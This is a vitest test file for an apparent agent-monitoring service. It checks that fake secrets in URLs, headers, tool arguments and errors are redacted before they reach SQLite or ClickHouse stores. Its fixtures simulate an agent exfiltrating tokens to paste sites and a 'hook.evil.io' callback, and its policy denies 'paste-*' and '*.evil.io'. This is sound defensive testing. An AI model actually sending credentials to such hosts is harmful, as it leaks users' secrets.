/**
 * Nothing secret is stored. Known secrets go in through every input — OTLP/HTTP JSON and
 * protobuf into a service on SQLite and into one on a real ClickHouse, and a replay file (OTLP
 * lines and AgentCall lines) through `chainwatch replay` — in URL userinfo and token parameters,
 * a captured Authorization header, tool-call arguments, an error message, a credential attribute
 * and a JWT in a path. Then every byte both stores hold (the SQLite file and its WAL, the alerts
 * file, the spill; every ClickHouse table) is searched for them.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createClient, ClickHouseLogLevel } from '@clickhouse/client';
import { type Config, defaultStoreConfig } from '../src/config.js';
import { Service } from '../src/service.js';
import { defaultClickHouseConfig } from '../src/clickhouse-store.js';
import { defaultStoreWriterConfig } from '../src/store-writer.js';
import { clickhouse } from './helpers/clickhouse.js';
import { agentTrace, attrs, toProto } from './helpers/spans.js';
import { until } from './helpers/until.js';

const SECRETS = [
  'pw-SECRETA1', 'SECRETB2tokenvalue', 'SECRETC3bearerTokenValue', 'sk-SECRETD4abcdefghijklmnop', 'SECRETE5hook',
  'SECRETF6abcdefghijkl', 'ghp_SECRETG7abcdefghijklmnopqrstu', 'eyJSECRETH8aaaaaa.eyJbbbbbbbbbb.cccccccccccc',
];
const dir = mkdtempSync(join(tmpdir(), 'chainwatch-secrets-'));
const server = clickhouse(18134);
writeFileSync(join(dir, 'scope.yaml'), 'version: 1\npolicies:\n  - name: support\n    match: { name: [support-agent] }\n    destinations: { deny: ["paste-*", "*.evil.io"] }\n');
const writer = { ...defaultStoreWriterConfig, flushMs: 50, retryMs: 200 };
const chStore: Config['store'] = { ...defaultStoreConfig, kind: 'clickhouse', clickhouse: { ...defaultClickHouseConfig, url: server.url, database: 'cw_secrets', requestTimeoutMs: 5000 }, writer };
const sqliteStore: Config['store'] = { ...chStore, kind: 'sqlite' };

/** A trace carrying every secret somewhere an instrumentation might put it. */
function secretTrace(t0: number): object {
  const tr = agentTrace({
    t0, agentId: 'support-agent-01',
    tools: [
      { tool: 'upload', method: 'POST', url: `https://svc:${SECRETS[0]}@paste-a.io/upload?access_token=${SECRETS[1]}&lang=en`, args: { api_key: SECRETS[3], callback: `https://hook.evil.io/in?token=${SECRETS[4]}` }, credential: SECRETS[6] },
      { tool: 'session', method: 'GET', url: `https://api.evil.io/v1/sessions/${SECRETS[7]}` },
    ],
  });
  const spans = (tr.doc as any).resourceSpans[0].scopeSpans[0].spans as any[];
  const client = spans.find((s) => s.spanId === tr.clientIds[0]);
  client.attributes.push(...attrs({ 'http.request.header.authorization': `Bearer ${SECRETS[2]}`, 'error.type': `invalid token Bearer ${SECRETS[5]}`, 'http.response.status_code': 401 }));
  client.status = { code: 2, message: `denied for Bearer ${SECRETS[5]}` };
  return tr.doc;
}

async function feed(store: Config['store'], state: string): Promise<Service> {
  const service = new Service({ stateDir: state, receiver: { port: 0 }, policies: [join(dir, 'scope.yaml')], store });
  const url = `${await service.start()}/v1/traces`;
  const json = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(secretTrace(Date.UTC(2026, 5, 1, 10))) });
  const proto = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/x-protobuf' }, body: Buffer.from(toProto(secretTrace(Date.UTC(2026, 5, 1, 11)))) });
  expect([json.status, proto.status]).toEqual([200, 200]);
  service.engine.flush();
  await until(() => service.eventWriter.counters.rowsWritten.chains >= 2);
  return service;
}

function filesUnder(path: string): string[] {
  if (!existsSync(path)) return [];
  return statSync(path).isDirectory() ? readdirSync(path).flatMap((f) => filesUnder(join(path, f))) : [path];
}

const found = (text: string): string[] => SECRETS.filter((s) => text.includes(s) || text.includes(s.slice(0, 12)));

beforeAll(() => server.start(), 120_000);
afterAll(() => {
  server.destroy();
  rmSync(dir, { recursive: true, force: true });
}, 60_000);

describe('no secret reaches a store', () => {
  it('SQLite: OTLP JSON, OTLP protobuf and a replay file', async () => {
    const state = join(dir, 'sqlite');
    const service = await feed(sqliteStore, state);
    await service.eventWriter.flush();
    expect(await service.events.count('alerts')).toBeGreaterThanOrEqual(2);
    expect(await service.events.count('calls')).toBe(4);
    await service.stop();

    const replayFile = join(dir, 'replay.jsonl');
    const call = {
      time: Date.UTC(2026, 5, 1, 12), endTime: Date.UTC(2026, 5, 1, 12) + 5, traceId: 'ab'.repeat(16), spanId: 'cd'.repeat(8),
      agent: { id: 'support-agent-01', name: 'support-agent', source: 'span' }, credential: SECRETS[6],
      action: { kind: 'http', method: 'POST', template: '/upload', signature: 'POST paste-b.io/upload', write: true },
      host: 'paste-b.io', url: `https://u:${SECRETS[0]}@paste-b.io/upload?token=${SECRETS[1]}`, external: true,
      destinations: [{ kind: 'host', value: `https://hook.evil.io/in?token=${SECRETS[4]}` }], resource: `paste-b.io/upload/${SECRETS[7]}`,
      outcome: { ok: false, status: 401, error: `Bearer ${SECRETS[5]}` }, retries: 0, sensitive: false,
    };
    writeFileSync(replayFile, `${JSON.stringify(secretTrace(Date.UTC(2026, 5, 1, 13)))}\n${JSON.stringify(call)}\n`);
    const cli = fileURLToPath(new URL('../src/cli.ts', import.meta.url));
    const tsx = new URL('../node_modules/tsx/dist/loader.mjs', import.meta.url).href;
    const r = spawnSync(process.execPath, ['--import', tsx, cli, 'replay', replayFile, '--state', state, '--policies', join(dir, 'scope.yaml'), '--alerts', join(state, 'replay-alerts.jsonl')], { encoding: 'utf8', timeout: 60_000 });
    expect(r.status, r.stderr).toBe(0);

    const files = filesUnder(state);
    expect(files.map((f) => f.slice(state.length))).toEqual(expect.arrayContaining(['/state.db', '/alerts.jsonl', '/replay-alerts.jsonl']));
    for (const f of files) expect([f, found(readFileSync(f).toString('latin1'))]).toEqual([f, []]);
    // The redacted rows are there: the search looked at real data.
    const db = readFileSync(join(state, 'state.db')).toString('latin1') + (existsSync(join(state, 'state.db-wal')) ? readFileSync(join(state, 'state.db-wal')).toString('latin1') : '');
    expect(db).toContain('REDACTED');
    expect(db).toContain('paste-b.io');
  }, 90_000);

  it('ClickHouse: OTLP JSON and OTLP protobuf', async () => {
    const service = await feed(chStore, join(dir, 'clickhouse'));
    await service.stop();
    expect(service.eventWriter.counters).toMatchObject({ rowsSpilled: 0, rowsDropped: 0 });
    expect(service.eventWriter.counters.rowsWritten.calls).toBe(4);
    const client = createClient({ url: server.url, log: { level: ClickHouseLogLevel.OFF } });
    let text = '';
    for (const table of ['calls', 'chains', 'alerts', 'alert_status']) {
      text += await (await client.query({ query: `SELECT * FROM cw_secrets.${table}`, format: 'JSONEachRow' })).text();
    }
    await client.close();
    expect(found(text)).toEqual([]);
    expect(text).toContain('REDACTED');
    expect(text).toContain('paste-a.io');
    for (const f of filesUnder(join(dir, 'clickhouse'))) expect([f, found(readFileSync(f).toString('latin1'))]).toEqual([f, []]);
  }, 90_000);
});
